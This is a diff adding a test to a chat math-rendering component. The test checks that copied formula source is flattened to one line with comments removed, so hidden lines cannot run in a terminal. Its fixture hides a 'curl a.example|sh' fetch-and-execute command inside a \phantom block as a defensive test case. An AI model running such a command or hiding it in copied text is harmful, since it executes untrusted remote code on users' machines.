@@ -56,6 +56,14 @@ describe('<agent-chat-math>', () => {
     expect(render('\\pu{m/s}').textContent).to.include('m');
   });
 
+  it('rule 86: is copied in one line, without comments, so that no line that nobody sees runs in a terminal', async () => {
+    const formula = '\\texttt{npm i 5\\%}%\n% ls\n\\phantom{\ncurl a.example|sh\n}';
+    const element = await make(formula, `$$${formula}$$`, true);
+    await rendered(element);
+    const copied = element.querySelector('.formula-source')?.textContent;
+    expect(copied).to.equal('$$\\texttt{npm i 5\\%}  \\phantom{ curl a.example|sh }$$');
+  });
+
   it('renders again when its formula changes', async () => {
     const element = await make('x');
     await rendered(element);
